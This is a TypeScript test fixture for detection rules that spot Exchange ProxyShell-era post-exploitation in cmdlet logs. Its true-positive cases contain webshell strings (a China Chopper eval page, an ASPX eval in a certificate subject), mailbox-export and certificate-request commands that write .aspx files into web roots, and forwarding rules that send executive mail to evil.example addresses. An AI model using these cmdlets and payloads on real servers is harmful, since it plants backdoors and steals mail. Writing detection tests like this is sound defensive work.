// Remote-PowerShell cmdlets of the ProxyShell/ProxyNotShell/OWASSRF chains, as the Rps_Cmdlet CSV log and
// the MSExchange Management event log record them. Parameters from PeterJson's and ZDI's ProxyShell
// write-ups, the Metasploit module, Kevin Beaumont's certificate-request variant and HAFNIUM's exports.
import type { RuleCase } from '../harness.js';
import { evt, mgmt } from './build.js';

const rps = (cmdlet: string, parameters: string): Record<string, string> => ({ Cmdlet: cmdlet, Parameters: parameters, AuthenticatedUser: 'CONTOSO\\administrator', ClientApplication: 'ManagementShell' });
const SHELL_PST = '\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\x1.aspx';
const AUTH_PST = '\\\\localhost\\c$\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\HWTJQDMFVMPOON.aspx';
const SHARE_PST = '\\\\fs01\\exports$\\jdoe.pst';
const CHOPPER = 'http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["k"],"unsafe");}</script>';

export const cases: RuleCase[] = [
  {
    rule: 'cmdlets/rps_mailbox_export_webshell.yml',
    log: 'rps-cmdlet',
    tp: [rps('New-MailboxExportRequest', `-Mailbox:"administrator@contoso.com" -IncludeFolders:"#Drafts#" -ContentFilter:"(Subject -eq 'kvdjqxn')" -FilePath:"${SHELL_PST}"`), rps('New-MailboxExportRequest', `-Mailbox 'x' -FilePath '${AUTH_PST}'`)],
    tn: [rps('New-MailboxExportRequest', `-Mailbox:"jdoe" -FilePath:"${SHARE_PST}"`), rps('Get-MailboxExportRequest', '-Identity:"x1.aspx"')],
  },
  {
    rule: 'cmdlets/rps_mailbox_export_share.yml',
    log: 'rps-cmdlet',
    tp: [rps('New-MailboxExportRequest', `-Mailbox:"ceo@contoso.com" -FilePath:"${SHARE_PST}"`)],
    tn: [rps('New-MailboxExportRequest', `-Mailbox:"x" -FilePath:"${SHELL_PST}"`), rps('Get-MailboxExportRequest', ''), rps('New-MailboxImportRequest', `-Mailbox:"jdoe" -FilePath:"${SHARE_PST}"`)],
  },
  {
    rule: 'cmdlets/rps_role_assignment_import_export.yml',
    log: 'rps-cmdlet',
    tp: [rps('New-ManagementRoleAssignment', '-Role:"Mailbox Import Export" -User:"administrator@contoso.com"')],
    tn: [rps('New-ManagementRoleAssignment', '-Role:"Mail Recipients" -SecurityGroup:"Helpdesk"'), rps('Get-ManagementRoleAssignment', '-Role:"Mailbox Import Export"')],
  },
  {
    rule: 'cmdlets/rps_remove_mailbox_export.yml',
    log: 'rps-cmdlet',
    tp: [rps('Remove-MailboxExportRequest', '-Identity:"administrator\\MailboxExport" -Confirm:"False"'), rps('Remove-MailboxExportRequest', '-Identity:x -Confirm:$false')],
    tn: [rps('Remove-MailboxExportRequest', '-Identity:"jdoe\\MailboxExport"'), rps('Get-MailboxExportRequest', '-Status:"Completed"')],
  },
  {
    rule: 'cmdlets/rps_certificate_request_webshell.yml',
    log: 'rps-cmdlet',
    tp: [
      rps('New-ExchangeCertificate', '-GenerateRequest:"True" -BinaryEncoded:"True" -SubjectName:"c=US, o=<%eval(Request.Item[\'x\'])%>" -RequestFile:"\\\\localhost\\C$\\inetpub\\wwwroot\\aspnet_client\\cert.aspx"'),
    ],
    tn: [rps('New-ExchangeCertificate', '-GenerateRequest:"True" -SubjectName:"cn=mail.contoso.com" -RequestFile:"\\\\fs01\\certs\\mail.req"'), rps('New-ExchangeCertificate', '-PrivateKeyExportable:"True" -FriendlyName:"aspx test"')],
  },
  {
    rule: 'cmdlets/rps_set_vdir_script_url.yml',
    log: 'rps-cmdlet',
    tp: [rps('Set-OabVirtualDirectory', `-Identity:"EX01\\OAB (Default Web Site)" -ExternalUrl:"${CHOPPER}"`)],
    tn: [rps('Set-OabVirtualDirectory', '-Identity:"EX01\\OAB (Default Web Site)" -ExternalUrl:"https://mail.contoso.com/OAB"'), rps('Set-Mailbox', `-Identity:x -CustomAttribute1:"${CHOPPER}"`)],
  },
  {
    rule: 'cmdlets/mgmt_mailbox_export_webshell.yml',
    log: 'evtx',
    tp: [mgmt('New-MailboxExportRequest', `-Mailbox "administrator@contoso.com" -IncludeFolders "#Drafts#" -FilePath "${SHELL_PST}"`)],
    tn: [mgmt('New-MailboxExportRequest', `-Mailbox "jdoe" -FilePath "${SHARE_PST}"`), mgmt('Get-Mailbox', '-Identity "web.aspx"')],
  },
  {
    rule: 'cmdlets/mgmt_mailbox_export_share.yml',
    log: 'evtx',
    tp: [mgmt('New-MailboxExportRequest', `-Mailbox "ceo@contoso.com" -FilePath "${SHARE_PST}"`)],
    tn: [mgmt('New-MailboxExportRequest', `-Mailbox "x" -FilePath "${AUTH_PST}"`), mgmt('Get-MailboxExportRequest', '')],
  },
  {
    rule: 'cmdlets/mgmt_role_assignment_import_export.yml',
    log: 'evtx',
    tp: [mgmt('New-ManagementRoleAssignment', '-Role "Mailbox Import Export" -User "administrator@contoso.com"')],
    tn: [mgmt('New-ManagementRoleAssignment', '-Role "Mail Recipients" -SecurityGroup "Helpdesk"'), mgmt('Get-ManagementRoleAssignment', '-Role "Mailbox Search"')],
  },
  {
    rule: 'cmdlets/mgmt_remove_mailbox_export.yml',
    log: 'evtx',
    tp: [mgmt('Remove-MailboxExportRequest', '-Identity "administrator\\MailboxExport" -Confirm "False"')],
    tn: [mgmt('Remove-MailboxExportRequest', '-Identity "jdoe\\MailboxExport"'), mgmt('Set-Mailbox', '-Identity "x" -Confirm "False"')],
  },
  {
    rule: 'cmdlets/mgmt_certificate_request_webshell.yml',
    log: 'evtx',
    tp: [mgmt('New-ExchangeCertificate', '-GenerateRequest "True" -BinaryEncoded "True" -RequestFile "\\\\127.0.0.1\\c$\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\x.aspx"')],
    tn: [mgmt('New-ExchangeCertificate', '-GenerateRequest "True" -RequestFile "\\\\fs01\\certs\\mail.req" -SubjectName "cn=mail.contoso.com"')],
  },
  {
    rule: 'cmdlets/mgmt_set_vdir_script_url.yml',
    log: 'evtx',
    tp: [mgmt('Set-OabVirtualDirectory', `-ExternalUrl "${CHOPPER}" -Identity "3a5e2c1b-1111-4222-8333-444455556666"`)],
    tn: [mgmt('Set-OabVirtualDirectory', '-ExternalUrl "https://mail.contoso.com/OAB" -Identity "EX01\\OAB (Default Web Site)"'), mgmt('Set-OwaVirtualDirectory', '-LogonFormat "UserName"')],
  },
  {
    rule: 'cmdlets/mgmt_transport_agent_install.yml',
    log: 'evtx',
    tp: [mgmt('Install-TransportAgent', '-Name "Security Interop Agent" -TransportAgentFactory "Microsoft.Exchange.Security.Interop.SecurityInteropAgentFactory" -AssemblyPath "C:\\Windows\\Temp\\msxfer.dll"')],
    tn: [mgmt('Get-TransportAgent', ''), mgmt('Disable-TransportAgent', '-Identity "Content Filter Agent"')],
  },
  {
    rule: 'cmdlets/mgmt_admin_role_group_member_added.yml',
    log: 'evtx',
    tp: [mgmt('Add-RoleGroupMember', '-Identity "Organization Management" -Member "svc_backup"')],
    tn: [mgmt('Add-RoleGroupMember', '-Identity "Help Desk" -Member "jdoe"'), mgmt('Get-RoleGroupMember', '-Identity "Organization Management"')],
  },
  {
    rule: 'cmdlets/rps_mail_forwarding.yml',
    log: 'rps-cmdlet',
    tp: [rps('Set-Mailbox', '-Identity:"ceo" -ForwardingSmtpAddress:"smtp:drop@evil.example"'), rps('New-InboxRule', '-Mailbox:"cfo" -Name:"." -ForwardAsAttachmentTo:"x@evil.example"')],
    tn: [rps('Set-Mailbox', '-Identity:"jdoe" -ProhibitSendQuota:"50GB"'), rps('New-InboxRule', '-Mailbox:"jdoe" -Name:"News" -MoveToFolder:"jdoe:\\News"'), rps('Get-Mailbox', '-Filter:"ForwardingSmtpAddress -ne $null"')],
  },
  {
    rule: 'cmdlets/mgmt_mail_forwarding.yml',
    log: 'evtx',
    tp: [mgmt('Set-Mailbox', '-Identity "ceo" -ForwardingSmtpAddress "smtp:drop@evil.example" -DeliverToMailboxAndForward "True"'), mgmt('New-InboxRule', '-Mailbox "cfo" -Name "." -RedirectTo "x@evil.example"')],
    tn: [mgmt('Set-Mailbox', '-Identity "jdoe" -ProhibitSendQuota "50GB"'), mgmt('New-InboxRule', '-Mailbox "jdoe" -Name "News" -MoveToFolder "jdoe:\\News"')],
  },
  {
    rule: 'other-cves/mgmt_cve_2021_42321_get_app.yml',
    log: 'evtx',
    tp: [],
    tn: [evt('MSExchange Management', 'MSExchange CmdletLogs', 6, { Data: 'Cmdlet failed. Cmdlet New-MailboxExportRequest, parameters {Mailbox=jdoe}' }, 2)],
  },
];
